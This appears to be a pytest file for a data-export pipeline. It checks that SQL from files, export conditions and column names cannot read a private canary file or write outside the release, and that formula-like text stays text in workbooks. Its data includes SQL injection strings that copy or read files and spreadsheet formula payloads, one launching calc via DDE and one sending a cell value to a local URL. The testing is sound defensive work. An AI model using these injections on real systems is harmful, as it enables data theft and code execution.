"""The other doors SQL comes in by (`statecraft sql FILE`, `export --sql`, `--where`), and formulas in what goes out."""

from __future__ import annotations

import resource
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from pipelines import own_limits
from pipelines.errors import QueryError, StatecraftError
from pipelines.export import delimited, sdmx, workbook
from pipelines.export.subject import Subject, of_query, of_table
from pipelines.query import read_sql
from pipelines.query_rules import LONGEST_QUERY
from pipelines.release import Release
from pipelines.settings import PROJECT_ROOT, Settings
from tests.unit.export.tiny import line, tiny_release
from tests.unit.rooms import toy_settings, tree
from tests.unit.sandbox.attempts import FILES, NETWORK, SEVERAL, WRITING

CANARY = "hushhush"
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://127.0.0.1:9/?"&A1)')
#: What would make one condition, or one name of a column, into something else.
CONDITIONS = (
    "1 = 1; copy core.dim_partner to '{home}/out.csv'",
    "1 = 1) ; copy (select 1) to '{home}/out.csv' (format csv) --",
    "exists (from read_text('{home}/private.csv') where contains(content, 'hush'))",
    "1 = (select error(content) from read_text('{home}/private.csv'))",
    "1 = 1 union all select content, content from read_text('{home}/private.csv')",
    "hts10 in (select * from query('from read_text(''{home}/private.csv'')'))",
)


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return replace(toy_settings(tmp_path), memory_limit="80MB")


@pytest.fixture
def release(settings: Settings) -> Iterator[Release]:
    """A release beside a private file; nothing in its folder may have changed afterwards."""
    found = tiny_release(settings)
    (found.path / "private.csv").write_text(CANARY)
    before = tree(found.path)
    yield found
    assert tree(found.path) == before


def _written(settings: Settings, subject: Subject, file: Path) -> str:
    delimited.write(settings, subject, file, 60)
    return file.read_text()


def test_no_attempt_comes_in_by_a_file_to_export(settings: Settings, release: Release, tmp_path: Path) -> None:
    answered = []
    for attempt in (*FILES, *NETWORK, *WRITING, *SEVERAL):
        sql = attempt.sql.replace("{home}", str(release.path)).replace("{folder}", release.path.name)
        file = line(tmp_path / "asked.sql", sql)
        try:
            told = _written(settings, of_query(settings, release, file), tmp_path / "out.csv")
            answered.append((attempt.name, told))
        except StatecraftError as error:
            told = str(error)
        assert CANARY not in told, attempt.name
    assert answered == []


@pytest.mark.parametrize("condition", CONDITIONS)
def test_no_condition_of_an_export_leads_out(
    settings: Settings, release: Release, tmp_path: Path, condition: str
) -> None:
    where = condition.replace("{home}", str(release.path))
    with pytest.raises(QueryError) as caught:
        _written(settings, of_table(settings, release, "core.fct_line", where), tmp_path / "out.csv")
    assert CANARY not in str(caught.value)


@pytest.mark.parametrize("condition", CONDITIONS)
def test_no_condition_on_series_leads_out(settings: Settings, release: Release, tmp_path: Path, condition: str) -> None:
    sql = "select hts10, '2026' as TIME_PERIOD, 1.0 as OBS_VALUE from core.fct_line"
    flow = sdmx.Flow("SC_TOY", "Toys", [sdmx.Component("hts10", "A line.")], [], sql)
    with pytest.raises(QueryError) as caught:
        sdmx.write(settings, release, flow, tmp_path / "out.csv", condition.replace("{home}", str(release.path)), 60)
    assert CANARY not in str(caught.value)
    assert sdmx.write(settings, release, flow, tmp_path / "out.csv", "hts10 = '0101210010'", 60) == 1


@pytest.mark.parametrize("name", ["hts10 from core.fct_line; drop table x; --", "(select 1)", '"; select 1', "*"])
def test_a_column_is_one_of_the_columns(settings: Settings, release: Release, name: str) -> None:
    with pytest.raises(StatecraftError, match="has no column"):
        of_table(settings, release, "core.fct_line", columns=[name])
    with pytest.raises(StatecraftError, match="no table or saved query"):
        of_table(settings, release, name)


def test_a_file_of_sql_is_bounded(tmp_path: Path) -> None:
    with (tmp_path / "long.sql").open("wb") as file:
        file.truncate(4 * LONGEST_QUERY + 1)
    with pytest.raises(QueryError, match="too large for a query"):
        read_sql(tmp_path / "long.sql")
    (tmp_path / "odd.sql").write_bytes(b"select '\xff'")
    with pytest.raises(QueryError, match="not UTF-8"):
        read_sql(tmp_path / "odd.sql")


def test_commands_that_take_sql_bound_their_process(settings: Settings, release: Release) -> None:
    """The command itself, whose memory limit is small: what DuckDB does not count is still refused."""
    huge = "select length(repeat('x', 4000000000) || 'y')"
    asked = f"""
import os, sys
from pipelines import own_limits
own_limits.BESIDE_DUCKDB_BYTES = 300 << 20
os.environ.update(STATECRAFT_HOME={str(settings.home)!r}, STATECRAFT_MEMORY_LIMIT="80MB")
from pipelines.cli import main
sys.argv = ["statecraft", "sql", {huge!r}, "--timeout", "300"]
main()
"""
    done = subprocess.run([sys.executable, "-c", asked], capture_output=True, text=True, check=False, cwd=PROJECT_ROOT)
    assert done.returncode == 6 and "Out of Memory" in done.stderr, done.stderr + done.stdout


def test_a_share_of_the_machine_bounds_too_and_what_is_no_limit_does_not(settings: Settings) -> None:
    bounds = []
    for limit in ("10%", "20%"):
        with own_limits.bounded_memory(Settings(settings.home, limit, 1)) as bound:
            assert bound and resource.getrlimit(resource.RLIMIT_DATA)[0] == bound
            bounds.append(bound)
    assert own_limits.BESIDE_DUCKDB_BYTES < bounds[0] < bounds[1]
    with own_limits.bounded_memory(Settings(settings.home, "plenty", 1)) as bound:
        assert bound is None


def test_the_bound_ends_with_the_command(settings: Settings) -> None:
    before = resource.getrlimit(resource.RLIMIT_DATA)
    with own_limits.bounded_memory(settings) as bound:
        assert bound and resource.getrlimit(resource.RLIMIT_DATA)[0] == bound > own_limits.BESIDE_DUCKDB_BYTES
    assert resource.getrlimit(resource.RLIMIT_DATA) == before


def test_a_text_that_begins_like_a_formula_stays_a_text(settings: Settings, release: Release, tmp_path: Path) -> None:
    """In a workbook, which says what is text. A CSV cannot say it and is left as published: docs/security.md."""
    rows = ", ".join("('" + text.replace("'", "''") + "')" for text in FORMULAS)
    subject = of_query(settings, release, line(tmp_path / "asked.sql", f"select said from (values {rows}) as t(said)"))
    workbook.write(settings, subject, tmp_path / "out.xlsx", 60)
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["data"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(text, "s") for text in FORMULAS]
    assert FORMULAS[0] in _written(settings, subject, tmp_path / "out.csv").splitlines()
